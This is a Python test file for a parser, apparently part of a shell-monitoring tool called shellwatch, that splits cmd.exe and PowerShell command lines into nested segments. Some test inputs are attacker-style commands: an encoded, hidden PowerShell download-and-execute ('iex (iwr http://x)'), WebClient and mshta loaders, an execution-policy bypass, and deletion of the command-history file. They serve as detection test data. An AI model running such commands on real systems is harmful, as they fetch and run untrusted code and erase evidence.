"""Splitting cmd.exe and PowerShell lines."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellwatch.cmdline import Redirection
from shellwatch.cmdline.windows import split_cmd, split_powershell

# --- cmd.exe --------------------------------------------------------------------------------------------


def test_cmd_chain_operators() -> None:
    segments = split_cmd("whoami & hostname && ipconfig /all || echo no | findstr x")
    assert [s.command for s in segments] == ["whoami", "hostname", "ipconfig", "echo", "findstr"]
    assert [s.operator for s in segments] == ["&", "&&", "||", "|", ""]
    assert [s.position for s in segments] == [0, 0, 0, 0, 1]


def test_cmd_quotes_and_carets_do_not_split() -> None:
    segments = split_cmd('echo "a & b | c" ^& d ^| e ^> f')
    assert len(segments) == 1
    assert segments[0].argv == ("echo", "a & b | c", "&", "d", "|", "e", ">", "f")
    assert segments[0].redirections == ()


def test_cmd_carets_inside_words() -> None:
    (segment,) = split_cmd("w^h^o^a^m^i /al^l")
    assert segment.command == "whoami"
    assert segment.argv == ("whoami", "/all")


def test_cmd_redirections() -> None:
    (segment,) = split_cmd("dir c:\\ > out.txt 2>&1 < in.txt")
    assert segment.argv == ("dir", "c:\\")
    assert segment.redirections == (
        Redirection("> out.txt", ">", 1, target_path="out.txt"),
        Redirection("2>&1", ">&", 2, target_fd=1),
        Redirection("< in.txt", "<", 0, target_path="in.txt"),
    )


def test_cmd_redirection_without_space_and_quoted_target() -> None:
    (segment,) = split_cmd('echo hi>>log.txt 2>"c:\\my logs\\err.txt"')
    assert segment.argv == ("echo", "hi")
    assert [(r.operator, r.fd, r.target_path) for r in segment.redirections] == [
        (">>", 1, "log.txt"),
        (">", 2, "c:\\my logs\\err.txt"),
    ]


def test_cmd_command_name_is_normalised() -> None:
    (segment,) = split_cmd('@"C:\\Windows\\System32\\WHOAMI.EXE" /all')
    assert segment.command == "whoami"
    assert segment.command_path == "C:\\Windows\\System32\\WHOAMI.EXE"


def test_cmd_c_body_is_nested() -> None:
    segments = split_cmd('cmd.exe /c "echo a & whoami"')
    assert [(s.command, s.depth) for s in segments] == [("cmd", 0), ("echo", 1), ("whoami", 1)]
    assert segments[1].operator == "&"


def test_cmd_c_with_options_before_it() -> None:
    segments = split_cmd('"C:\\Windows\\system32\\cmd.exe" /q /v:on /c "net user & net localgroup"')
    assert [(s.command, s.depth) for s in segments] == [("cmd", 0), ("net", 1), ("net", 1)]


def test_cmd_c_after_an_operator_is_nested() -> None:
    segments = split_cmd('echo x & cmd /c "net user & net localgroup"')
    assert [(s.command, s.depth) for s in segments] == [("echo", 0), ("cmd", 0), ("net", 1), ("net", 1)]


def test_cmd_blocks_lose_their_parentheses() -> None:
    segments = split_cmd("(echo a & echo b) > f.txt")
    assert [(s.command, s.argv) for s in segments] == [("echo", ("echo", "a")), ("echo", ("echo", "b"))]
    assert [r.target_path for r in segments[1].redirections] == ["f.txt"]


def test_cmd_parentheses_in_arguments_are_kept() -> None:
    (segment,) = split_cmd("mshta.exe javascript:a=GetObject('script:x').Exec();close()")
    assert segment.argv[1].endswith("close()")


def test_cmd_trailing_newline_is_not_an_operator() -> None:
    assert [s.operator for s in split_cmd("whoami\r\nhostname\r\n")] == ["\n", ""]


def test_encoded_command_is_decoded() -> None:
    encoded = base64.b64encode("iex (iwr http://x)".encode("utf-16-le")).decode()
    segments = split_cmd(f"powershell.exe -nop -w hidden -enc {encoded}")
    assert [(s.command, s.depth, s.shell) for s in segments] == [
        ("powershell", 0, "cmd"),
        ("iex", 1, "powershell"),
        ("iwr", 2, "powershell"),
    ]


def test_powershell_options_before_the_script() -> None:
    segments = split_cmd('powershell.exe -exec bypass -noprofile "Get-Process; whoami"')
    assert [(s.command, s.depth) for s in segments] == [("powershell", 0), ("get-process", 1), ("whoami", 1)]


def test_powershell_file_is_not_a_body() -> None:
    assert len(split_cmd("powershell -ExecutionPolicy Bypass -File C:\\x.ps1")) == 1


@pytest.mark.parametrize("line", ["", '"', "^", "cmd /c", "((", "&&&", "|", ">", ")", "2>&", "cmd /c ("])
def test_cmd_broken_input_never_raises(line: str) -> None:
    split_cmd(line)


# --- PowerShell -----------------------------------------------------------------------------------------


def test_powershell_statements_and_pipes() -> None:
    segments = split_powershell("Get-Process | Stop-Process; Write-Host done\nexit")
    assert [s.command for s in segments] == ["get-process", "stop-process", "write-host", "exit"]
    assert [s.operator for s in segments] == ["|", ";", "\n", ""]
    assert [s.position for s in segments] == [0, 1, 0, 0]


def test_powershell_chain_operators() -> None:
    segments = split_powershell("Test-Path x && Remove-Item x || Write-Error no")
    assert [s.operator for s in segments] == ["&&", "||", ""]


def test_powershell_script_block_is_nested() -> None:
    segments = split_powershell("Get-ChildItem | ForEach-Object { Remove-Item $_; Write-Host x }")
    assert [(s.command, s.depth) for s in segments] == [
        ("get-childitem", 0),
        ("foreach-object", 0),
        ("remove-item", 1),
        ("write-host", 1),
    ]


def test_powershell_block_glued_to_its_command() -> None:
    segments = split_powershell("gps|?{$_.Id -gt 4}|ForEach{Stop-Process $_}")
    assert [(s.command, s.depth) for s in segments] == [
        ("gps", 0),
        ("?", 0),
        ("", 1),
        ("foreach", 0),
        ("stop-process", 1),
    ]


def test_powershell_subexpression_is_nested() -> None:
    segments = split_powershell('Write-Host "user: $(whoami); ok"')
    assert [(s.command, s.depth) for s in segments] == [("write-host", 0), ("whoami", 1)]


def test_powershell_command_group_is_nested() -> None:
    segments = split_powershell("Remove-Item (Get-PSReadlineOption).HistorySavePath")
    assert [(s.command, s.depth) for s in segments] == [("remove-item", 0), ("get-psreadlineoption", 1)]


def test_powershell_method_arguments_are_not_segments() -> None:
    segments = split_powershell("$wc.DownloadString('http://x/a;b')")
    assert [(s.command, s.depth) for s in segments] == [("", 0)]


def test_powershell_quotes_do_not_split() -> None:
    assert len(split_powershell("Write-Host 'a; b | c' \"d; e\" @'\nx; y\n'@")) == 1


def test_powershell_hashtable_is_not_a_block() -> None:
    assert len(split_powershell("$h = @{a = 1; b = 2}")) == 1


def test_powershell_assignment_names_its_command() -> None:
    segments = split_powershell("$p = Get-Process; $x=Get-Item a; $s = 'Get-Thing'")
    assert [s.command for s in segments] == ["get-process", "get-item", ""]
    assert segments[1].argv == ("$x", "=", "Get-Item", "a")


def test_powershell_call_operators() -> None:
    segments = split_powershell('& "C:\\Tools\\x.exe" -a; . .\\setup.ps1; &$sb')
    assert [s.command for s in segments] == ["x", "setup.ps1", "$sb"]
    assert segments[0].command_path == "C:\\Tools\\x.exe"


def test_powershell_command_with_parenthesised_argument() -> None:
    (segment, nested) = split_powershell("IEX(New-Object Net.WebClient)")
    assert segment.command == "iex"
    assert segment.argv == ("IEX", "(New-Object Net.WebClient)")
    assert (nested.command, nested.depth) == ("new-object", 1)


def test_powershell_redirections() -> None:
    (segment,) = split_powershell("Get-Process 2>&1 > out.txt *>> all.log")
    assert [(r.operator, r.fd, r.target_fd, r.target_path) for r in segment.redirections] == [
        (">&", 2, 1, ""),
        (">", 1, None, "out.txt"),
        (">>", None, None, "all.log"),
    ]


def test_powershell_comment_is_skipped() -> None:
    segments = split_powershell("whoami # ; not | code\nhostname <# block; comment #> ; ipconfig")
    assert [s.command for s in segments] == ["whoami", "hostname", "ipconfig"]


def test_powershell_escapes() -> None:
    (segment,) = split_powershell("Write-Host a`;b `| c")
    assert segment.argv == ("Write-Host", "a;b", "|", "c")


def test_powershell_nested_cmd() -> None:
    segments = split_powershell('cmd /c "whoami & hostname"; Get-Date')
    assert [(s.command, s.depth, s.shell) for s in segments] == [
        ("cmd", 0, "powershell"),
        ("whoami", 1, "cmd"),
        ("hostname", 1, "cmd"),
        ("get-date", 0, "powershell"),
    ]


@pytest.mark.parametrize("line", ["", "{", "$(", "'", '"', "@'", "<#", "`", "}{)(", "@{", "&", ".(", "$x="])
def test_powershell_broken_input_never_raises(line: str) -> None:
    split_powershell(line)


@given(st.text(alphabet="ab &|^\"'<>(){}$@#;`\n/c=.", max_size=80))
def test_random_windows_syntax_never_raises(text: str) -> None:
    split_cmd(text)
    split_powershell(text)
